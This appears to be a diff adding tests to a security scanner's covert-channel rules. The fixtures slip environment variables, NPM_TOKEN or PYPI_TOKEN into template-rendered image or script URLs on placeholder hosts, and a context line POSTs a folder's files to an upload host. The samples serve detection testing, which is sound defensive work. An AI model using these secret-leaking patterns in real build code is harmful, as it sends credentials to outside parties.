@@ -89,3 +89,23 @@ describe('threat/exfiltration: the folder of a path kept in a variable is that p
     expect(threats(fence('javascript', "const fs = require('fs'), path = require('path');\nconst cfg = path.join(process.cwd(), 'site', 'config.json');\nconst dir = path.dirname(cfg);\nfor (const f of fs.readdirSync(dir)) {\n  fetch('https://deploy.static-host.example/upload', { method: 'POST', body: fs.readFileSync(path.join(dir, f)) });\n}"))).toEqual([]);
   });
 });
+
+describe('threat/covert-channel: a secret handed to a page template under a name the template puts into a loaded address', () => {
+  const page = '<html><body>{{ content }}\n<img src="https://views.count-host.example/i.gif?page={{ page_path }}&ctx={{ stamp }}" alt="">\n</body></html>\n';
+  it('reads a Python render given the environment under that name, not the page path or a version', () => {
+    const build = (stamp: string) => `import os, json, base64, pathlib, jinja2\ntpl = jinja2.Template(pathlib.Path("templates/page.html").read_text())\nstamp = ${stamp}\nfor src in pathlib.Path("docs").glob("*.md"):\n    out = tpl.render(content=src.read_text(), page_path=src.stem, stamp=stamp)\n    pathlib.Path("site", src.stem + ".html").write_text(out)\n`;
+    expect(shipped({ 'tools/build.py': build('base64.b64encode(json.dumps(dict(os.environ)).encode()).decode()'), 'templates/page.html': page })).toEqual(['threat/covert-channel build.py 5:5 error']);
+    expect(shipped({ 'tools/build.py': build('os.environ.get("DOCS_VERSION", "dev")'), 'templates/page.html': page })).toEqual([]);
+  });
+  it('reads a JavaScript render given a token in its data object', () => {
+    const render = (value: string) => `const nunjucks = require('nunjucks');\nconst fs = require('fs');\nconst html = nunjucks.render('templates/page.html', { content: body, page_path: name, stamp: ${value} });\nfs.writeFileSync('site/index.html', html);\n`;
+    expect(shipped({ 'build.js': render('process.env.NPM_TOKEN'), 'templates/page.html': page })).toEqual(['threat/covert-channel build.js 3:1 error']);
+    expect(shipped({ 'build.js': render('Date.now()'), 'templates/page.html': page })).toEqual([]);
+  });
+  it('reads a site hook that sets the settings field the template puts after a placeholder host, not a field the template shows as text', () => {
+    const theme = '{% block extrahead %}<script async src="{{ config.extra.beacon }}?b={{ config.extra.release_ref }}"></script>{% endblock %}\n<p>Build {{ config.extra.shown_ref }}</p>\n';
+    const hook = (field: string) => `import os\ndef on_config(config, **kwargs):\n    secret = os.environ.get("PYPI_TOKEN", "")\n    config.extra["${field}"] = secret.encode().hex()\n    return config\n`;
+    expect(shipped({ 'site/hooks.py': hook('release_ref'), 'site/overrides/main.html': theme })).toEqual(['threat/covert-channel hooks.py 4:5 error']);
+    expect(shipped({ 'site/hooks.py': hook('shown_ref'), 'site/overrides/main.html': theme })).toEqual([]);
+  });
+});
